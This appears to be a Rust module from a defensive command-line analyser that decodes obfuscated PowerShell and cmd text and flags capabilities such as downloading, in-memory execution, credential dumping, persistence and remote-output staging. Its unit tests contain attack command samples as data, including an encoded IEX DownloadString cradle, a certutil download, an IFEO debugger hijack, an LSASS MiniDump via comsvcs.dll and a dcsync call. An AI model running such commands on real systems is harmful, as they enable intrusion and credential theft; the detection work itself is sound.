//! What a command line or script says: layers decoded, capabilities named. Judged by combination, never by one keyword.

use std::collections::BTreeSet;

pub use super::capability::Capability;
use super::capability::{NATIVE, WORDS};
use super::decoding;

/// What was read out of a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reading {
    /// The text and everything decoded from it, outermost first.
    pub layers: Vec<String>,
    /// How deep the innermost of them lies: 1 if nothing was hidden.
    pub depth: usize,
    /// What was not decoded to its end, and why.
    pub refused: Vec<String>,
    /// What it can do.
    pub capabilities: BTreeSet<Capability>,
    /// How many of the operating system's memory functions it names.
    pub native_calls: usize,
    /// How many ways of making recovery impossible it uses.
    pub recovery_steps: usize,
    /// It hides its window, skips the profile and takes its commands encoded: at least three of these.
    pub launched_hidden: bool,
}

impl Reading {
    /// The text does this.
    #[must_use]
    pub fn has(&self, capability: Capability) -> bool {
        self.capabilities.contains(&capability)
    }

    /// It hides what it does: encoded, launched so that nobody sees it, or against its observers.
    #[must_use]
    pub fn is_concealed(&self) -> bool {
        self.depth > 1 || self.launched_hidden || self.has(Capability::Evasion)
    }
}

/// Reads a command line or script.
#[must_use]
pub fn read(text: &str) -> Reading {
    let decoding::Layers { texts, depth, refused } = decoding::layers(text);
    let all = texts.iter().map(|layer| folded(layer)).collect::<Vec<_>>().join("\n");
    let has = |words: &[&str]| words.iter().all(|word| all.contains(word));
    let count = |entries: &[&[&str]]| entries.iter().filter(|words| has(words)).count();
    let capabilities = WORDS.iter().filter(|(_, entries)| entries.iter().any(|words| has(words)));
    let recovery = WORDS.iter().find(|(capability, _)| *capability == Capability::RecoveryInhibition);
    Reading {
        capabilities: capabilities.map(|(capability, _)| *capability).collect(),
        native_calls: count(NATIVE),
        recovery_steps: recovery.map_or(0, |(_, entries)| count(entries)),
        launched_hidden: texts.iter().any(|text| is_launched_hidden(&folded(text))),
        layers: texts,
        depth,
        refused,
    }
}

/// Both outputs of a shell's command go to a file that somebody else will fetch: a `.tmp` in Windows' own folder for
/// such, or a share of the machine itself. Whoever sits at a machine reads the answer on the screen, and what runs by
/// plan keeps a log of its own name.
#[must_use]
pub fn leaves_output_to_be_fetched(command: &str) -> bool {
    let folded = folded(command);
    let (kept, to_file) = (folded.contains("2>&1"), folded.split("> ").skip(1).chain(folded.split('>').skip(1)));
    kept && to_file.map(str::trim_start).any(|target| {
        let file = target.split(' ').next().unwrap_or_default();
        let in_temp = file.contains("\\windows\\temp\\") && file.ends_with(".tmp");
        in_temp || file.starts_with("\\\\127.0.0.1\\") || file.starts_with("\\\\localhost\\")
    })
}

/// Where in a text the first word stands by which it is known to do something, the gravest thing first; the beginning of
/// a text that does nothing.
#[must_use]
pub fn telling_start(text: &str) -> usize {
    // The same length in bytes, so that a place in one is a place in the other.
    let plain = text.to_ascii_lowercase();
    let of_capability = |wanted: Capability| {
        let entries =
            WORDS.iter().filter(move |(capability, _)| *capability == wanted).flat_map(|(_, entries)| *entries);
        let met = entries.filter(|words| words.iter().all(|word| plain.contains(word)));
        met.filter_map(|words| words.iter().filter_map(|word| plain.find(word)).min()).min()
    };
    GRAVEST.into_iter().find_map(of_capability).unwrap_or(0)
}

/// What a text is quoted by, the gravest first.
const GRAVEST: [Capability; 6] = [
    Capability::Credential,
    Capability::RecoveryInhibition,
    Capability::Evasion,
    Capability::RemoteExecution,
    Capability::Download,
    Capability::ExecuteInMemory,
];

/// Where a quote of so many characters begins so that it shows what tells: at the beginning of the text if that does.
#[must_use]
pub fn quotable_start(text: &str, most: usize) -> usize {
    let at = telling_start(text);
    if text[..at].chars().count() < most / 2 {
        return 0;
    }
    // From the beginning of its line, if that is near.
    let line = text[..at].rfind('\n').map_or(0, |end| end + 1);
    if text[line..at].chars().count() < most / 2 { line } else { at }
}

/// Lower case, carets, back ticks and quotation marks of obfuscation removed, white space collapsed.
#[must_use]
pub fn folded(text: &str) -> String {
    // PowerShell's string concatenation splits words: 'Down' + 'load'.
    let joined = text.replace("' + '", "").replace("\" + \"", "");
    let plain: String = joined.chars().filter(|c| !matches!(c, '`' | '^' | '"' | '\'')).collect();
    let plain = plain.to_lowercase().replace(['+', '\0'], "");
    plain.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn is_launched_hidden(folded: &str) -> bool {
    if !(folded.contains("powershell") || folded.contains("pwsh")) {
        return false;
    }
    let words: Vec<&str> = folded.split(' ').collect();
    let switch = |names: &[&str]| {
        words.iter().any(|word| word.strip_prefix(['-', '/']).is_some_and(|word| names.contains(&word)))
    };
    let hidden = words.windows(2).any(|pair| {
        let name = pair[0].trim_start_matches(['-', '/']);
        name.starts_with('w') && "windowstyle".starts_with(name) && matches!(pair[1], "hidden" | "1" | "hid")
    });
    let signs = [
        switch(&["nop", "noprofile", "noprof"]),
        switch(&["noni", "noninteractive", "nonint"]),
        hidden,
        switch(&["e", "ec", "en", "enc", "enco", "encodedcommand", "encoded"]),
        words.windows(2).any(|pair| pair[0].trim_start_matches(['-', '/']).starts_with("ex") && pair[1] == "bypass"),
        switch(&["sta"]),
    ];
    signs.iter().filter(|sign| **sign).count() >= 3
}

#[cfg(test)]
mod tests {
    use base64::Engine;
    use base64::engine::general_purpose::STANDARD;

    use super::*;

    fn encoded(text: &str) -> String {
        STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>())
    }

    #[test]
    fn an_encoded_command_is_judged_by_its_plain_text() {
        let inner = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')";
        let reading = read(&format!("powershell.exe -nop -w hidden -enc {}", encoded(inner)));
        assert_eq!(reading.layers.len(), 2);
        assert!(reading.launched_hidden);
        assert!(reading.capabilities.contains(&Capability::Download));
        assert!(reading.capabilities.contains(&Capability::ExecuteInMemory));

        let harmless =
            read(&format!("powershell.exe -enc {}", encoded("Get-Service | Where-Object Status -eq Running")));
        assert!(harmless.capabilities.is_empty() && !harmless.launched_hidden);
    }

    #[test]
    fn splitting_words_does_not_hide_them() {
        assert!(read("&('I'+'EX') ((New-Object Net.WebClient).('Down'+'loadString')('x'))").capabilities.len() >= 2);
        assert!(
            read("c^ert^util -url^cache -f http://203.0.113.9/a.exe a.exe")
                .capabilities
                .contains(&Capability::Download)
        );
    }

    #[test]
    fn what_starts_on_an_event_is_told_from_what_starts_by_a_schedule() {
        let options = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options";
        for command in [
            &format!("reg add \"{options}\\magnify.exe\" /v Debugger /d cmd.exe /f"),
            "reg.exe add HKCU\\Environment /v UserInitMprLogonScript /d C:\\ProgramData\\a.bat",
            "Set-WmiInstance -Class CommandLineEventConsumer -Arguments $a",
        ] {
            let capabilities = read(command).capabilities;
            assert!(capabilities.contains(&Capability::EventTriggered), "{command}");
            assert!(!capabilities.contains(&Capability::Persistence), "{command}: one thing said is one fact");
        }
        let scheduled = read("schtasks /create /tn Inventory /tr C:\\Tools\\inventory.exe /sc daily").capabilities;
        assert_eq!(scheduled.into_iter().collect::<Vec<_>>(), [Capability::Persistence]);
        assert!(read(&format!("reg query \"{options}\"")).capabilities.is_empty());
    }

    #[test]
    fn words_need_their_company() {
        assert!(read("rundll32.exe comsvcs.dll, MiniDump 712 x full").capabilities.contains(&Capability::Credential));
        assert!(read("rundll32.exe comsvcs.dll,DllRegisterServer").capabilities.is_empty());
        assert!(read("certutil -hashfile a.iso SHA256").capabilities.is_empty());
        assert!(read("vssadmin list shadows").capabilities.is_empty());
    }

    #[test]
    fn an_answer_that_somebody_else_will_fetch_is_told_from_a_log() {
        for fetched in [
            "cmd.exe /C hostname > C:\\Windows\\Temp\\QwErTyUi.tmp 2>&1",
            "cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__1600000000.1 2>&1",
        ] {
            assert!(leaves_output_to_be_fetched(fetched), "{fetched}");
        }
        for kept in [
            "cmd /c backup.cmd > C:\\Windows\\Temp\\backup.log 2>&1",
            "cmd /c dir > C:\\Windows\\Temp\\a.tmp",
            "x 2>&1",
        ] {
            assert!(!leaves_output_to_be_fetched(kept), "{kept}");
        }
    }

    #[test]
    fn a_long_text_is_quoted_where_it_tells_something() {
        let text = format!("{}\nlsadump::dcsync /user:x\nrest", "banner ".repeat(60));
        assert_eq!(&text[quotable_start(&text, 40)..][..7], "lsadump");
        assert_eq!(quotable_start("Get-Service", 24), 0);
    }

    #[test]
    fn anything_can_be_read() {
        for text in ["", "====================================", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "é\u{0}"] {
            let _ = read(text);
            assert!(text.is_char_boundary(quotable_start(text, 4)));
        }
    }
}
